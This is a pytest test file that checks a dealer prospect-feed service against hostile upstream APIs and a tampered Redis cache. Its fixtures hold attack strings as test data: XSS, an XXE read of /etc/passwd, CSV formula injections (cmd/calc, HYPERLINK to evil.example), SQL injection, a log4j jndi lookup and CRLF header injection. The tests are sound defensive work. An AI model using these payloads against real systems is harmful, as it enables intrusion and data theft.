"""API10:2023 - an upstream that is not what it was, and a cache that somebody wrote into: what they say is only text.

The upstream of these tests answers whatever a test wants; whatever that is, the call ends, nothing of it is taken
for more than it is, and every process goes on.
"""

import csv
import io
import json
import socket
import ssl
import subprocess
import threading
import time

import pytest
import redis
from shop import OTHER, days_ago, wait_for

GUEST = "66666"
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


class Upstream(threading.Thread):
    """Answers each connection with what `answer` yields, a function of the request's head; keeps the heads."""

    def __init__(self):
        super().__init__(daemon=True)
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.port = self.socket.getsockname()[1]
        self.answer, self.heads, self.context = None, [], None
        self.start()

    def run(self):
        while True:
            try:
                peer, _ = self.socket.accept()
            except OSError:
                return
            threading.Thread(target=self.serve, args=(peer,), daemon=True).start()

    def serve(self, peer):
        with peer:
            peer.settimeout(5)
            try:
                if self.context:
                    peer = self.context.wrap_socket(peer, server_side=True)
                self.heads.append(peer.recv(65536))
                for piece in self.answer():
                    peer.sendall(piece)
            except OSError:
                return

    def says(self, *pieces):
        self.answer = lambda: iter(pieces)

    def tells(self, body, *headers):
        body = body if isinstance(body, bytes) else json.dumps(body).encode()
        self.says(http(body, *headers))


def http(body, *headers, status="200 OK"):
    lines = [f"HTTP/1.1 {status}", f"Content-Length: {len(body)}", "Content-Type: application/json", "Connection: close", *headers]
    return "\r\n".join([*lines, "", ""]).encode() + body


def records(*rows):
    return {"status": 1, "message": None, "data": [{"dealerId": GUEST, **row} for row in rows]}


@pytest.fixture(scope="module")
def guest(shop):
    """The upstream, and a dealer that it serves."""
    upstream = Upstream()
    upstream.shop = shop
    set_upstream(upstream)
    answer = shop.api("POST", "/api/v1/dealers", json={"dealer_id": GUEST, "dealer_name": "Guest", "upstream": "guest",
                                                       "api_key": "guest-key-0123456789", "secret_key": "guest-secret-9876"})
    assert answer.status_code == 201, answer.text
    yield upstream
    upstream.socket.close()


def set_upstream(upstream, scheme="http", **more):
    body = {"base_url": f"{scheme}://127.0.0.1:{upstream.port}/v1", "formula": "concat", "zone": "Asia/Jakarta", "allow_private": True,
            "history_days": 400, "first_byte_timeout_ms": 1000, "total_timeout_ms": 3000, "body_timeout_ms": 1000,
            "max_body_bytes": 1048576, "breaker_failures": 10000, **more}
    answer = upstream.shop.api("PUT", "/api/v1/upstreams/guest", json=body)
    assert answer.status_code == 200, answer.text


def fetch(guest, day=3):
    """A job of one day, at its end, and its tries."""
    shop = guest.shop
    guest.heads.clear()
    answer = shop.api("POST", "/api/v1/jobs", json={"dealer_ids": [GUEST], "from": days_ago(day), "to": days_ago(day)})
    assert answer.status_code == 202, answer.text
    job = shop.wait_job(answer.json()["id"])
    assert all(p.alive() for p in shop.system.processes.values()), [p.name for p in shop.system.processes.values() if not p.alive()]
    return job


def stored(guest):
    return {row["id_prospect"]: row for row in guest.shop.query("SELECT * FROM feed.prospect WHERE dealer_id = %s", (GUEST,))}


@pytest.fixture(autouse=True)
def forgotten(shop):
    """What a test stored of the guest is not there for the next one."""
    yield
    shop.query("DELETE FROM feed.prospect_unit WHERE dealer_id = %s", (GUEST,))
    shop.query("DELETE FROM feed.prospect WHERE dealer_id = %s", (GUEST,))


# ---- what is no answer ----


@pytest.mark.parametrize("body", [
    b"", b"\0" * 1000, b"null", b"true", b"0", b'"text"', b"[]", b"{}", b"[" * 100000, b'{"a":' * 100000, b'{"status":1,"data":' + b"[" * 5000,
    b'{"status":1,"data":[{"idProspect":"x","unit":' + b"[" * 3000 + b"]" * 3000 + b"}]}", b'{"status":"1","data":"[]"}',
    b'{"status":1,"data":{"idProspect":1}}', b'{"status":1,"data":[1,2,"x",null,[],true]}', b'{"status":1e400,"data":[]}',
    b'{"status":-1,"data":[]}', b'{"status":1,"data":[],"data":[{"idProspect":"twice"}]}', b"\xff\xfe" + '{"status":1}'.encode("utf-16le"),
    b'{"status":1,"data":[{"idProspect":"\xff\xff"}]}', b'{"status":1,"data":[{"idProspect":"\\ud800"}]}',
    b'{"status":1,"data":[{"idProspect":"a\\u0000b"}]}', b"<!DOCTYPE html><script>alert(1)</script>", b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y"
    b" SYSTEM 'file:///etc/passwd'>]><x>&y;</x>", b'{"__proto__":{"status":1},"constructor":1}', b"\x1f\x8b\x08\x00" + b"\0" * 100,
    b'{"status":1,"data":[{"idProspect":' + b"9" * 100000 + b"}]}"],
    ids=lambda b: repr(b[:24]))
def test_whatever_comes_for_an_answer_ends_the_call_and_nothing_else(guest, body):
    guest.tells(body)
    job = fetch(guest)
    assert job["state"] in ("succeeded", "failed")
    if job["state"] == "failed":
        assert job["error_code"].startswith("upstream.") and stored(guest) == {}
    assert len(stored(guest)) == job["rows_new"] <= 1


@pytest.mark.parametrize("answer", [
    b"HTTP/0.9 200\r\n\r\n{}", b"hello\r\n", b"HTTP/1.1 99999 x\r\n\r\n", b"HTTP/1.1 200 OK\r\nContent-Length: -1\r\n\r\n{}",
    b"HTTP/1.1 200 OK\r\nContent-Length: 10\r\nContent-Length: 20\r\n\r\n{}", b"HTTP/1.1 200 OK\r\nContent-Length: 99999999999999999999\r\n\r\n{}",
    b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\n{}", b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n{}",
    b"HTTP/1.1 200 OK\r\nTransfer-Encoding: gzip, chunked, x\r\n\r\n{}", b"HTTP/1.1 200 OK\r\n" + b"X: y\r\n" * 200000 + b"\r\n{}",
    b"HTTP/1.1 200 OK\r\nX: " + b"y" * 2000000 + b"\r\n\r\n{}", b"HTTP/1.1 100 Continue\r\n\r\n" * 5000, b"HTTP/1.1 204 No Content\r\n\r\n",
    b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: h2c\r\n\r\n", b"SSH-2.0-OpenSSH_9.2\r\n", b"-ERR unknown command\r\n", b"\x15\x03\x01\x00\x02\x02\x46"],
    ids=lambda b: repr(b[:40]))
def test_what_is_no_http_ends_the_call_and_nothing_else(guest, answer):
    guest.says(answer)
    job = fetch(guest)
    assert job["state"] == "failed" and job["error_code"].startswith("upstream.") and stored(guest) == {}


def memory(shop):
    with shop.system.wire("fetcher-1") as wire:
        return wire.call("sys.stats", {})["rss_bytes"]


def test_an_answer_without_end_is_cut_off_and_costs_no_memory(guest):
    before = memory(guest.shop)
    sent = []

    def endless():
        yield b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n\r\n" + b'{"status":1,"data":['
        piece = b'{"idProspect":"x","alamat":"' + b"y" * 60000 + b'"},'
        for _ in range(2000):
            yield piece
            sent.append(len(piece))

    guest.answer = endless
    job = fetch(guest)
    assert job["state"] == "failed" and job["error_code"] == "upstream.too_large"
    assert sum(sent) < 200 * 1024 * 1024 and memory(guest.shop) - before < 64 * 1024 * 1024
    assert stored(guest) == {}


def test_an_answer_that_never_ends_by_being_slow_is_given_up(guest):
    def drip():
        yield b"HTTP/1.1 200 OK\r\nContent-Length: 100000\r\n\r\n"
        for _ in range(100):
            yield b" "
            time.sleep(0.1)

    guest.answer = drip
    job = fetch(guest)
    assert job["state"] == "failed" and job["error_code"] in ("upstream.timeout_total", "upstream.timeout_body")


def test_a_packed_answer_is_not_unpacked_unasked(guest):
    import gzip
    guest.tells(gzip.compress(b'{"status":1,"data":[]}' + b" " * 20_000_000), "Content-Encoding: gzip")
    before = memory(guest.shop)
    assert fetch(guest)["state"] == "failed" and b"accept-encoding" not in guest.heads[0].lower()
    assert memory(guest.shop) - before < 32 * 1024 * 1024


def test_a_wish_to_be_left_alone_for_ever_lasts_a_day(guest):
    try:
        for wish in ("99999999999999999999", "-5", "Fri, 31 Dec 9999 23:59:59 GMT", "soon"):
            guest.says(http(b"{}", f"Retry-After: {wish}", status="429 Too Many Requests"))
            assert fetch(guest)["error_code"] == "upstream.too_many"
            rows = guest.shop.query("SELECT blocked_until <= now() + interval '25 hours' AS ok FROM jobs.credential_state"
                                    " WHERE blocked_until IS NOT NULL")
            assert all(row["ok"] for row in rows)
            guest.shop.query("UPDATE jobs.credential_state SET blocked_until = NULL, blocked_code = NULL")
    finally:
        guest.shop.query("UPDATE jobs.credential_state SET blocked_until = NULL, blocked_code = NULL")


def test_nothing_that_an_upstream_sets_comes_back_to_it(guest):
    guest.tells(records(), "Set-Cookie: track=1; Path=/", "Strict-Transport-Security: max-age=99999", "Authorization: x",
                "WWW-Authenticate: Basic realm=x", "Keep-Alive: timeout=9999")
    for _ in range(2):
        assert fetch(guest)["state"] == "succeeded"
        assert b"track" not in guest.heads[0] and b"Authorization" not in guest.heads[0]


# ---- TLS ----


@pytest.fixture(scope="module")
def certificate(tmp_path_factory):
    folder = tmp_path_factory.mktemp("tls")
    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-subj", "/CN=127.0.0.1", "-addext",
                    "subjectAltName=IP:127.0.0.1", "-keyout", folder / "key.pem", "-out", folder / "cert.pem"], check=True,
                   capture_output=True)
    return folder


def test_a_certificate_that_nobody_vouches_for_is_not_believed(guest, certificate):
    """Not even a byte of the request is sent to it."""
    guest.context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    guest.context.load_cert_chain(certificate / "cert.pem", certificate / "key.pem")
    try:
        set_upstream(guest, "https")
        guest.tells(records({"idProspect": "MITM"}))
        job = fetch(guest)
        assert job["state"] == "failed" and guest.heads == [] and stored(guest) == {}
        said = guest.shop.api("POST", f"/api/v1/dealers/{GUEST}/test", json={}, timeout=30).json()
        assert not said["ok"] and guest.heads == []
        assert "tls" in [step["name"] for step in said["steps"] if step["state"] == "failed"]
    finally:
        guest.context = None
        set_upstream(guest)


def test_plain_http_where_tls_was_meant_is_not_taken(guest):
    try:
        set_upstream(guest, "https")
        guest.tells(records({"idProspect": "PLAIN"}))
        assert fetch(guest)["state"] == "failed" and stored(guest) == {}
    finally:
        set_upstream(guest)


# ---- what is shown of it ----


@pytest.fixture
def hostile(guest):
    """A record for each text, stored; the shop."""
    texts = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "=HYPERLINK(\"http://evil.example\",\"x\")", "+1+cmd|' /C calc'!A0",
             "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "'; DROP TABLE feed.prospect; --", "${jndi:ldap://x}", "{{7*7}}",
             "a\"b,c\r\nSet-Cookie: x=y", "\u202egnp.exe", "%0d%0aX-Evil: 1", "=cmd|'/C calc'!A0;x", "\ufeff=1"]
    guest.tells(records(*[{"idProspect": f"{text}#{n}", "namaLengkap": text, "statusProspect": text, "sumberProspect": text,
                           "idSalesPeople": text, "tanggalProspect": "01/03/2026"} for n, text in enumerate(texts)]))
    job = fetch(guest)
    assert job["state"] == "succeeded" and job["rows_read"] + job["rows_quarantined"] == len(texts), job
    return guest.shop


def asked(shop, path, **params):
    answer = shop.api("GET", path, params={"dealer_id": GUEST, **params})
    assert answer.status_code == 200, answer.text
    return answer


def test_text_of_an_upstream_is_text_in_json(hostile):
    for path in ("/api/v1/prospects", "/api/v1/report/prospects", "/prospect-data", f"/prospect-data/analytics/{GUEST}"):
        answer = hostile.api("GET", path, params={} if path.endswith(GUEST) else {"dealer_id": GUEST})
        assert answer.status_code == 200 and answer.headers["Content-Type"].startswith("application/json")
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        assert "x-evil" not in {k.lower() for k in answer.headers} and "set-cookie" not in {k.lower() for k in answer.headers}
        json.loads(answer.text)


def test_no_cell_of_a_file_is_a_formula(hostile):
    answer = asked(hostile, "/api/v1/prospects", format="csv", reveal="true", reason="Complaint 4711")
    assert answer.headers["Content-Type"].startswith("text/csv") and answer.headers["Content-Disposition"].startswith("attachment")
    rows = list(csv.reader(io.StringIO(answer.text, newline="")))
    assert len(rows) > 12
    for row in rows:
        assert len(row) == len(rows[0]), "no cell ends before its end"
        for cell in row:
            assert not cell.startswith(FORMULA), cell
    assert any("<script>" in cell for row in rows for cell in row), "nothing is lost"


@pytest.mark.parametrize("text", ["=HYPERLINK(\"http://evil\")", "<script>alert(1)</script>", "\r\nSet-Cookie: a=b", "@x", "\t=1"])
def test_what_an_upstream_says_of_a_failure_is_text_everywhere(guest, text):
    shop = guest.shop
    guest.tells({"status": 0, "message": {"confirmation": text, "key": text}, "data": None})
    job = fetch(guest)
    assert job["state"] == "failed"
    for path, params in (("/api/v1/jobs", {}), ("/api/v1/tasks", {"state": "failed"}), ("/api/v1/report/fetches", {})):
        for form in ("json", "csv"):
            answer = shop.api("GET", path, params={"dealer_id": GUEST, "format": form, **params})
            assert answer.status_code == 200 and "set-cookie" not in {k.lower() for k in answer.headers}
            if form == "csv":
                for row in csv.reader(io.StringIO(answer.text, newline="")):
                    assert not [cell for cell in row if cell.startswith(FORMULA)]
    for process in ("fetcher-1", "scheduler-1"):
        assert all(isinstance(line, dict) for line in shop.system[process].lines()), "the log stays one line a line"


def test_a_record_says_itself_whose_it_is_and_is_dropped_where_that_is_wrong(guest):
    """An upstream cannot write into another dealer, whatever it says."""
    others = "SELECT dealer_id, count(*) AS n FROM feed.prospect WHERE dealer_id <> %s GROUP BY 1 ORDER BY 1"
    before = guest.shop.query(others, (GUEST,))
    guest.tells({"status": 1, "data": [{"dealerId": OTHER, "idProspect": "FOREIGN"}, {"dealerId": [OTHER], "idProspect": "LIST"},
                                       {"dealerId": f"{GUEST} ", "idProspect": "BLANK"}, {"dealerId": "*", "idProspect": "STAR"}]})
    fetch(guest)
    assert guest.shop.query(others, (GUEST,)) == before


# ---- the cache ----


@pytest.mark.parametrize("spoil", [
    lambda r, k: r.set(k, b"\xff\xfe rubbish"), lambda r, k: r.set(k, b""), lambda r, k: r.set(k, b"\xdd\xff\xff\xff\xff"),
    lambda r, k: r.set(k, b"9" * 300000), lambda r, k: (r.delete(k), r.lpush(k, b"list")), lambda r, k: (r.delete(k), r.hset(k, "a", "b")),
    lambda r, k: r.set(k, r.get(k)[:-3] if r.get(k) else b"x"), lambda r, k: r.set(k, b'{"total": 666}')],
    ids=["bytes", "nothing", "a huge length", "long", "a list", "a table", "cut off", "json"])
def test_what_somebody_writes_into_the_cache_is_not_believed(shop, spoil):
    if not shop.query("SELECT 1 AS one FROM feed.prospect WHERE dealer_id = %s LIMIT 1", (OTHER,)):
        shop.wait_job(shop.job(OTHER))
    cache = redis.Redis(unix_socket_path=str(shop.system.run / "redis.sock"))

    def ask():
        report = shop.api("GET", "/api/v1/report/prospects", params={"dealer_id": OTHER}).json()
        jobs = shop.api("GET", "/api/v1/jobs", params={"dealer_id": OTHER}).json()["items"]
        return report["total"], report["daily_counts"], [shop.api("GET", f"/api/v1/jobs/{j['id']}").json()["state"] for j in jobs[:3]]

    cache.flushall()
    right = ask()
    keys = wait_for("something in the cache", lambda: cache.keys("dd:*"))
    for key in keys:
        spoil(cache, key)
    assert ask() == right
    assert all(p.alive() for p in shop.system.processes.values())
